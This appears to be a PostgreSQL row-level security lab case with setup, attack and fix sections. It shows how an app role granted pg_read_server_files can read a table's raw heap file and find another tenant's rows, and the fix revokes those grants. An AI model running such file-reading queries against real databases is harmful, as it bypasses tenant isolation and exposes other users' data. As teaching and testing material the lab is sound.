-- app role has pg_read_server_files (or pg_execute_server_program / pg_write_server_files): reads the heap file

--- setup
GRANT pg_read_server_files TO rls_app; GRANT EXECUTE ON FUNCTION pg_read_binary_file(text) TO rls_app; CHECKPOINT;

--- attack
--- as rls_app
SET app.tenant_id='1';
SELECT lab.v(lab.n($q$select 1 where position('victim-secret'::bytea in pg_read_binary_file(pg_relation_filepath('app.project')))>0$q$)>0,'raw heap bytes contain victim rows');

--- fix
REVOKE pg_read_server_files FROM rls_app; REVOKE EXECUTE ON FUNCTION pg_read_binary_file(text) FROM rls_app;
